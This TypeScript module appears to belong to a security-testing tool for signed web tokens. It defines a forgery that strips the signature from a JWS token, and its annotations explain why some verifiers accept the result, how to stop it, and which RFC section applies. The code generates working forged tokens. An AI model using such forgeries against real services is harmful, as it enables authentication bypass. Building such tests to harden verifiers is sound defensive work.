import type { Forging } from './attack';
import { payloadPart, signatureChange, withOriginal } from './parts';

export const strippedSignature: Forging = {
  changes: 'Removes the last dot and the signature; the header stays as it is.',
  why: 'Code that splits at the dots and decodes the middle never notices; some verifiers took two parts for an unsigned token.',
  stops: 'Verifying before reading: three parts or nothing.',
  source: 'RFC 7515 §5.2',
  needs: [],
  forge: (token, tools) =>
    withOriginal(token, (original) => {
      const payload = payloadPart(original, tools);
      return {
        ok: true,
        tokens: [`${original.jws.header.raw}.${payload.raw}`],
        changes: [...payload.changes, signatureChange('gone, with its dot')],
      };
    }),
};
